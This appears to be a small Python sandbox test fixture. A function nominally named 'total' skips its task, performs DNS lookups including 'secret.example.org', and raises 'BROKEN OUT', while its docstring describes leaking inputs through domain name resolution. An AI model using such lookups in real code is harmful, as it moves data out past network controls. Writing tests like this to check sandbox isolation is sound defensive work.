"""Resolves a host's name that carries the inputs to whoever owns the domain."""

# says: gaierror|Operation not permitted|name resolution
# %%
import socket

# %% task="total"
def total(values):
    socket.getaddrinfo("localhost", 80)
    socket.gethostbyname("secret.example.org")
    raise RuntimeError("BROKEN OUT")
